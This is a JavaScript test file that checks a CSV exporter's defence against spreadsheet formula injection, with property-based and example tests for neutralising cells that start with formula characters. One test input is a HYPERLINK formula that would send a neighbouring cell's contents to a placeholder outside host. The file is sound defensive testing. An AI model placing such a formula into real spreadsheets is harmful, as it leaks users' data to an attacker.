import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvText, neutralisedCell } from './csv-export.js';

const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];

describe('csvText', () => {
  it('writes no text cell that a spreadsheet would read as a formula', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom(...FORMULA_START), fc.string()).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 5 }),
        (rows) => {
          const read = parse(csvText(rows), { relax_column_count: true });
          for (const [r, row] of read.entries())
            for (const [c, value] of row.entries()) {
              expect(FORMULA_START.includes(value[0] ?? '')).toBe(false);
              // Nothing else changes: the cell is the text, or the text behind one apostrophe.
              const original = rows[r]?.[c] ?? '';
              expect(value === original || value === `'${original}`).toBe(true);
            }
        },
      ),
    );
  });

  it('leaves numbers as numbers, negative ones included', () => {
    expect(csvText([[1, -2.5, 'x']])).toBe('1,-2.5,x\n');
  });

  it('neutralises the OWASP starts and nothing else', () => {
    expect(neutralisedCell('=HYPERLINK("http://x.example/?"&A2,"x")')).toBe(
      `'=HYPERLINK("http://x.example/?"&A2,"x")`,
    );
    expect(neutralisedCell('@SUM(1+1)')).toBe(`'@SUM(1+1)`);
    expect(neutralisedCell('\t=1')).toBe(`'\t=1`);
    expect(neutralisedCell('a=1')).toBe('a=1');
    expect(neutralisedCell('{"a":-1}')).toBe('{"a":-1}');
  });
});
